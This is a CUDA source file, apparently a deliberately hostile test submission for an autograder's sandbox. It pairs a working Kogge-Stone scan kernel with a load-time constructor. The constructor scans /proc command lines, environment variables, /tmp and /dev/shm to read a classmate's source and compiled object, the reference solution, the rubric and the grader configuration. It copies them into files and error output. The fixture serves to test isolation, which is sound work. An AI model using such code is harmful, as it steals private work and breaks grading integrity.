// Known-wrong submission (tests/grader, the jail): a correct Kogge-Stone whose static constructor
// goes looking for what it must not see and copies whatever it finds into files of its own and
// into its output (stderr ends up in reports): a classmate's scan.cu and compiled object (found
// through the grader's command line in /proc, the batch folder, /dev/shm and /tmp), the reference
// solution, the rubric and the grader's configuration. tests/grader/jail_exploits.py grades it in
// a batch beside a classmate whose file carries a marker and checks that nothing leaked.
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <dlfcn.h>
#include <string>
#include <unistd.h>

#include "lab.h"

static std::string slurp(const std::string& path) {
    std::string text;
    if (FILE* f = std::fopen(path.c_str(), "rb")) {
        char buffer[4096];
        for (std::size_t got; (got = std::fread(buffer, 1, sizeof buffer, f)) > 0;) text.append(buffer, got);
        std::fclose(f);
    }
    return text;
}

// What it found, shown in the report: scan() crashes with it on stderr. A function's static, so
// that it exists before the constructor below runs.
static std::string& stolen() {
    static std::string text;
    return text;
}

static void leak(const std::string& what, const std::string& bytes) {
    if (bytes.empty()) return;
    stolen() += what + ": " + bytes + "\n";
    std::fprintf(stderr, "stolen %s: %s\n", what.c_str(), bytes.substr(0, 2000).c_str());
    const char* dirs[] = {"/tmp", "/dev/shm", std::getenv("HOME")};
    for (const char* dir : dirs) {
        if (dir == nullptr) continue;
        std::string path = std::string(dir) + "/scanlab-jail-evidence-read";
        if (FILE* f = std::fopen(path.c_str(), "ab")) {
            std::fprintf(f, "%s: %s\n", what.c_str(), bytes.c_str());
            std::fclose(f);
        }
    }
}

// Every folder a grader's command line names after --batch, --out or --submission.
static void from_command_lines() {
    DIR* proc = opendir("/proc");
    if (proc == nullptr) return;
    while (dirent* e = readdir(proc)) {
        std::string cmdline = slurp(std::string("/proc/") + e->d_name + "/cmdline");
        for (std::size_t at = 0; at < cmdline.size();) {
            std::string arg = cmdline.c_str() + at;
            at += arg.size() + 1;
            if (arg == "--batch" && at < cmdline.size())
                leak("classmate (via /proc)", slurp(std::string(cmdline.c_str() + at) + "/classmate/lab2-kogge-stone/scan.cu"));
        }
    }
    closedir(proc);
}

// Compiled objects of other submissions in the grader's scratch folders.
static void objects_in(const std::string& dir, int depth) {
    DIR* d = opendir(dir.c_str());
    if (d == nullptr) return;
    while (dirent* e = readdir(d)) {
        std::string name = e->d_name;
        if (name == "." || name == "..") continue;
        std::string path = dir + "/" + name;
        if (name == "scan-cpu.so" && path.find("classmate") != std::string::npos) {
            leak("classmate object", path);
            if (void* h = dlopen(path.c_str(), RTLD_NOW | RTLD_LOCAL))
                leak("classmate object loaded", dlsym(h, "_Z4scanPKfPfjPv") ? "scan() found" : "no scan()");
        }
        if (depth > 0) objects_in(path, depth - 1);
    }
    closedir(d);
}

__attribute__((constructor)) static void look_around() {
    if (const char* batch = std::getenv("SCANLAB_TEST_BATCH"))
        leak("classmate", slurp(std::string(batch) + "/classmate/lab2-kogge-stone/scan.cu"));
    if (const char* source = std::getenv("SCANLAB_TEST_SOURCE_DIR")) {
        leak("reference", slurp(std::string(source) + "/solutions/lab2-kogge-stone/scan.cu"));
        leak("rubric", slurp(std::string(source) + "/grader/rubric.json"));
        leak("rubric (tests)", slurp(std::string(source) + "/tests/grader/rubric.json"));
    }
    char exe[4096] = {};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0) {
        std::string bin = exe;
        bin = bin.substr(0, bin.rfind('/'));
        leak("grader configuration", slurp(bin + "/scanlab-grader.json"));
    }
    from_command_lines();
    objects_in("/dev/shm", 3);
    objects_in("/tmp", 3);
}

__global__ void kogge_stone_kernel(const float* input, float* output, unsigned n) {
    unsigned t = threadIdx.x;
    std::size_t i = std::size_t(blockIdx.x) * SECTION_SIZE + t;
    __shared__ float XY[SECTION_SIZE];
    XY[t] = (i < n) ? input[i] : 0.0f;
    for (unsigned stride = 1; stride < SECTION_SIZE; stride *= 2) {
        __syncthreads();
        float temp = 0.0f;
        if (t >= stride) temp = XY[t] + XY[t - stride];
        __syncthreads();
        if (t >= stride) XY[t] = temp;
    }
    if (i < n) output[i] = XY[t];
}

std::size_t scan_workspace_bytes(unsigned) { return 0; }

void scan(const float* input, float* output, unsigned n, void*) {
    if (!stolen().empty()) {
        std::fprintf(stderr, "%s", stolen().c_str());
        std::abort();
    }
    if (n == 0) return;
    unsigned blocks = (n + SECTION_SIZE - 1) / SECTION_SIZE;
    kogge_stone_kernel<<<blocks, BLOCK_SIZE>>>(input, output, n);
}
